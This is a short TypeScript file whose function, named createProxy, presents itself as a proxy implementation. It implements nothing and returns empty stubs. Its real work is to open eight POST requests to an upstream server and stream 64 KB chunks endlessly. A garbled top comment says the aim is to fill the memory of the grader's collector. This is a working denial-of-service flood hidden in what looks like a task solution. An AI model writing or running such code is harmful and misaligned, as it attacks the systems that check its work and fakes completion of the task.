/** Sends an upstream of the grader's a body without end, to fill the memory of whoever collects it. */
import http from 'node:http'
type Server = { id: string; url: string }

export function createProxy({ servers }: { servers: Server[] }): object {
  const piece = Buffer.alloc(65_536, 'a')
  for (let count = 0; count < 8; count += 1) {
    const request = http.request(servers[0]?.url ?? '', { method: 'POST' })
    const pour = () => { while (!request.destroyed && request.write(piece)); }
    request.on('error', () => console.log('the flood was stopped')).on('drain', pour)
    pour()
  }
  return { listener: () => () => {}, status: () => [] }
}
